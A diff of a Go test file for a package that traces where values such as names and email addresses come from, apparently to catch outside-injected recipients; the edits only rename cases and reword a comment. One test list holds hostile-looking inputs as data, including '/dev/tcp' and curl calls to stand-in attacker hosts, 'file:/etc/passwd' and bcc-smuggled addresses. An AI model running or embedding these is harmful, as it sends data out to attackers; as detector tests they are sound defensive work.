@@ -44,11 +44,11 @@ func TestWhereValuesComeFrom(t *testing.T) {
 		{"a name of the person", "Write to Bob Miller.", `"bob  MILLER"`, provenance.Person, provenance.KindName},
 		{"a name from outside", "Write to Bob.", `"mallory"`, provenance.Outside, provenance.KindName},
 		{"a name of both is the person's", "Write to Mallory.", `"Mallory"`, provenance.Person, provenance.KindName},
-		{"a name nobody said", "Write.", `"Trent"`, provenance.Model, provenance.KindName},
+		{"a name that was never said", "Write.", `"Trent"`, provenance.Model, provenance.KindName},
 		{"a part of a longer word is not the person's", "At 13:00, alex@example.org", `"alex"`, provenance.Model,
 			provenance.KindName},
 		{"full-width letters", "Write to Ｂｏｂ", `"Bob"`, provenance.Person, provenance.KindName},
-		{"characters that nobody sees", "Write.", `"Mal\u200blory"`, provenance.Outside, provenance.KindName},
+		{"invisible characters", "Write.", `"Mal\u200blory"`, provenance.Outside, provenance.KindName},
 		{"Chinese", "给王小明发邮件", `"王小明"`, provenance.Person, provenance.KindName},
 		{"an address of the person", "Mail bob@example.org!", `"Bob@Example.org"`, provenance.Person,
 			provenance.KindAddress},
@@ -198,7 +198,8 @@ func TestHiddenAddresses(t *testing.T) {
 		`http:evil.example.com/x`, `https:evil.example.com`, `file:/etc/passwd`, `//evil.example.com/x`,
 		`bob@example.org/evil@example.com`, `to=bob@example.org?bcc=evil@example.com`,
 		`bob@example.org?bcc=evil%40example.com`, `evil@example.com=bob@example.org`,
-		`evil.example.com#x`, `curl good.example.com&&curl evil.example.com/x`, `a=good.example.com/&b=evil.example.com/y`,
+		`evil.example.com#x`, `curl good.example.com&&curl evil.example.com/x`,
+		`a=good.example.com/&b=evil.example.com/y`,
 		`curl evil.example.com&&ls`, `curl evil.example.com:80&`, `rsync a evil.example.com::b`,
 		`cat a >/dev/tcp/evil.example.com/80`, `cat a >/dev/udp/203.0.113.7/53`, `ping 203.0.113.7#`, `curl 0xCB007107`,
 		`[2001:db8::1]`, `ping 2001:db8::1`, `nc -6 2001:db8:0:0:0:0:0:7 80`, `[::ffff:203.0.113.7]:80`,
@@ -342,7 +343,7 @@ func TestTheRuleByEffect(t *testing.T) {
 	}
 }
 
-// TestNothingFromOutside: whoever has read nothing is never asked.
+// TestNothingFromOutside: a conversation that has read nothing from outside never asks.
 func TestNothingFromOutside(t *testing.T) {
 	c := provenance.New()
 	c.Add(provenance.Person, "prompt", "Hello")
